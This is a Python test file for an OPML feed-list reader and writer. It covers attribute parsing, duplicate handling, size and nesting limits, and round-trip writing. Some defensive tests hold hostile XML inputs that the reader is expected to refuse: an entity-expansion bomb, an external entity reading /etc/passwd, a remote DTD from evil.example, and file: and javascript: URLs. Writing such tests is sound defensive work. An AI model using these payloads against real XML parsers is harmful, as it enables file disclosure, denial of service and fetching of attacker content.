"""Lists of feeds: read with their own words, hostile ones refused, written so that they read back."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from extractors.opml import MAX_BYTES, MAX_DEPTH, OpmlFeed, OpmlResult, read_opml, write_opml
from monitor.errors import UsageError

NEWSROOM = Path(__file__).parent / "newsroom" / "feeds.opml"


def opml(outlines: str, head: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{head}<opml version="2.0" xmlns:cw="urn:clusterwatch:opml">'
        f"<head><title>t</title></head><body>{outlines}</body></opml>"
    ).encode()


def codes(result: OpmlResult) -> list[str]:
    return [problem.code for problem in result.problems]


def test_every_attribute_is_read() -> None:
    result = read_opml(
        opml(
            '<outline text="Europe"><outline text="Ministries">'
            '<outline type="rss" text="Staff of Zubrovia" xmlUrl="https://staff.example/rss" htmlUrl="https://staff.example/"'
            ' language="de-AT" cw:country="at" cw:kind="ministry" cw:tier="1" cw:pages="all"'
            ' cw:owner="State of Zubrovia" cw:seen="repo a/b" cw:checked="no"/>'
            "</outline></outline>"
        )
    )
    assert result.problems == ()
    assert result.entries == (
        OpmlFeed(
            url="https://staff.example/rss",
            title="Staff of Zubrovia",
            home_url="https://staff.example/",
            language="de",
            country="AT",
            kind="ministry",
            tier=1,
            pages="all",
            seen="repo a/b",
            owner="State of Zubrovia",
            checked=False,
            folder=("Europe", "Ministries"),
        ),
    )


def test_what_is_not_said_is_none() -> None:
    (feed,) = read_opml(opml('<outline title="Courier" xmlUrl="http://courier.example/feed"/>')).entries
    assert feed == OpmlFeed("http://courier.example/feed", "Courier")


def test_a_feed_without_a_name_is_called_by_its_address() -> None:
    (feed,) = read_opml(opml('<outline xmlUrl="http://courier.example/feed"/>')).entries
    assert feed.title == "http://courier.example/feed"


def test_the_newsroom_list_is_read_whole() -> None:
    body = NEWSROOM.read_bytes()
    result = read_opml(body)
    assert len(result.entries) == len(re.findall(rb"xmlUrl=", body)) > 10
    assert result.problems == ()
    assert all(feed.kind and feed.tier and feed.country and feed.language for feed in result.entries)


def test_attribute_names_in_any_case_and_no_namespace_for_ours() -> None:
    (feed,) = read_opml(
        opml('<OUTLINE TEXT="C" XMLURL="http://c.example/f" HtmlUrl="http://c.example/" kind="agency"/>')
    ).entries
    assert feed.home_url == "http://c.example/"
    assert feed.kind is None  # a plain "kind" is another program's word


def test_a_feed_that_holds_other_feeds_is_no_folder() -> None:
    result = read_opml(
        opml(
            '<outline text="A" xmlUrl="http://a.example/"><outline text="B" xmlUrl="http://b.example/"/></outline>'
        )
    )
    assert [(feed.title, feed.folder) for feed in result.entries] == [("A", ()), ("B", ())]


def test_a_doubled_address_is_reported_and_kept_once() -> None:
    result = read_opml(
        opml(
            '<outline text="A" xmlUrl="https://a.example/feed"/>'
            '<outline text="A again" xmlUrl=" https://A.EXAMPLE/feed#top "/>'
            '<outline text="B" xmlUrl="https://a.example/Feed"/>'
        )
    )
    assert [feed.title for feed in result.entries] == ["A", "B"]
    assert codes(result) == ["duplicate"]


@pytest.mark.parametrize(
    "url",
    ["ftp://a.example/f", "file:///etc/passwd", "javascript:alert(1)", "/feed.xml", "http://", "http://[::1",
     "http://a.example:port/", "http://a.example/two words", "feed.xml"],
)  # fmt: skip
def test_addresses_that_are_not_http_are_reported_and_the_rest_read(url: str) -> None:
    result = read_opml(
        opml(f'<outline text="Bad" xmlUrl="{url}"/><outline text="Good" xmlUrl="https://good.example/"/>')
    )
    assert [feed.title for feed in result.entries] == ["Good"]
    assert codes(result) == ["not_http"]


def test_a_password_in_an_address_is_refused_and_not_repeated() -> None:
    result = read_opml(opml('<outline text="Desk" xmlUrl="https://me:hunter2@a.example/f"/>'))
    assert result.entries == ()
    assert codes(result) == ["has_password"]
    assert "hunter2" not in repr(result)


@pytest.mark.parametrize(
    ("attribute", "field"),
    [
        ('cw:kind="circus"', "kind"),
        ('cw:tier="0"', "tier"),
        ('cw:tier="one"', "tier"),
        ('cw:country="NOR"', "country"),
        ('cw:pages="some"', "pages"),
        ('cw:checked="maybe"', "checked"),
        ('language="?"', "language"),
        ('htmlUrl="ftp://a.example/"', "home_url"),
    ],
)
def test_a_value_outside_the_allowed_ones_is_a_problem_and_none(attribute: str, field: str) -> None:
    result = read_opml(opml(f'<outline text="A" xmlUrl="https://a.example/f" {attribute}/>'))
    (feed,) = result.entries
    assert getattr(feed, field) is None
    assert codes(result) == ["bad_value"]


BOMB = '<!DOCTYPE opml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-8-sig"])
@pytest.mark.parametrize(
    "head",
    [BOMB, '<!DOCTYPE opml [<!entity x SYSTEM "file:///etc/passwd">]>', "<!DOCTYPE opml [ ]>",
     '<!DOCTYPE opml SYSTEM "http://evil.example/x.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'],
)  # fmt: skip
def test_entities_are_refused_in_any_encoding(head: str, encoding: str) -> None:
    text = f'{head}<opml version="2.0"><body><outline text="&b;" xmlUrl="http://a.example/"/></body></opml>'
    with pytest.raises(UsageError, match="entities"):
        read_opml(text.encode(encoding))


def test_a_plain_doctype_does_no_harm() -> None:
    assert (
        len(read_opml(opml('<outline text="A" xmlUrl="http://a.example/"/>', "<!DOCTYPE opml>")).entries) == 1
    )


def test_a_flood_of_doctypes_is_refused_at_once() -> None:
    with pytest.raises(UsageError):
        read_opml(b"<opml>" + b"<!DOCTYPE " * 400_000)


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"\x00\x01\x02", "not well-formed"),
        (b"<opml><body>", "not well-formed"),
        (b"<html><body><p>Domain for sale</p></body></html>", "not an OPML list"),
        (b'<rss version="2.0"><channel/></rss>', "not an OPML list"),
        (b"\xff\xfeo", "not valid"),
        (b'<?xml version="1.0" encoding="utf-7"?><opml/>', "encoding"),
        (b'<?xml version="1.0" encoding="utf-8"?><opml text="\xff"/>', "not valid"),
        (b"<opml>" + b" " * MAX_BYTES, "larger"),
        (b"<opml " + b" ".join(b'a%d="1"' % n for n in range(900)) + b"/>", "attributes"),
        (b'<opml xmlns:a="u"><outline cw:kind="x"/></opml>', "not well-formed"),
    ],
)
def test_what_is_not_a_list_is_one_clear_sentence(body: bytes, words: str) -> None:
    with pytest.raises(UsageError, match=words) as caught:
        read_opml(body)
    assert "\n" not in str(caught.value)


def nested(depth: int) -> bytes:
    return opml('<outline text="f">' * depth + '<outline xmlUrl="http://a.example/"/>' + "</outline>" * depth)


def test_nesting_has_a_limit() -> None:
    (feed,) = read_opml(nested(MAX_DEPTH - 3)).entries  # opml, body and the feed are levels too
    assert len(feed.folder) == MAX_DEPTH - 3
    with pytest.raises(UsageError, match="nested"):
        read_opml(nested(MAX_DEPTH))


def test_old_encodings_are_read() -> None:
    text = '<?xml version="1.0" encoding="windows-1251"?><opml><outline text="Вестник" xmlUrl="http://v.example/"/></opml>'
    assert read_opml(text.encode("cp1251")).entries[0].title == "Вестник"


WORDS = (
    st.text(min_size=1, max_size=30)
    .map(lambda text: " ".join(re.sub(r"[^\w&<>\"'ёشم新-]", " ", text).split()))
    .filter(bool)
)
FEEDS = st.lists(
    st.builds(
        OpmlFeed,
        url=st.integers(0, 10**6).map(lambda n: f"https://a.example/{n}?x=1&y=<2>"),
        title=WORDS,
        home_url=st.sampled_from([None, "https://a.example/"]),
        language=st.sampled_from([None, "en", "fa"]),
        country=st.sampled_from([None, "NO", "ZA"]),
        kind=st.sampled_from([None, "agency", "igo"]),
        tier=st.sampled_from([None, 1, 3]),
        pages=st.sampled_from([None, "all"]),
        seen=st.none() | WORDS,
        owner=st.none() | WORDS,
        checked=st.sampled_from([None, True, False]),
        folder=st.sampled_from([(), ("Asia",), ("Asia", "East"), ("Europe",)]),
    ),
    unique_by=lambda feed: feed.url,
    max_size=8,
)


@given(FEEDS)
def test_what_is_written_reads_back_the_same(feeds: list[OpmlFeed]) -> None:
    result = read_opml(write_opml(feeds, "All & <sundry>").encode())
    assert result.problems == ()
    assert sorted(result.entries, key=lambda feed: feed.url) == sorted(feeds, key=lambda feed: feed.url)


def test_characters_that_xml_cannot_carry_do_not_stop_the_writing() -> None:
    (feed,) = read_opml(
        write_opml([OpmlFeed("https://a.example/", "A\x00\x0b\ud800B")], "t\x01").encode()
    ).entries
    assert feed.title == "AB"


@given(st.binary(max_size=300))
def test_any_bytes_give_a_result_or_a_usage_error(body: bytes) -> None:
    for document in (body, b"<opml><body>" + body + b"</body></opml>"):
        try:
            assert isinstance(read_opml(document), OpmlResult)
        except UsageError:
            continue
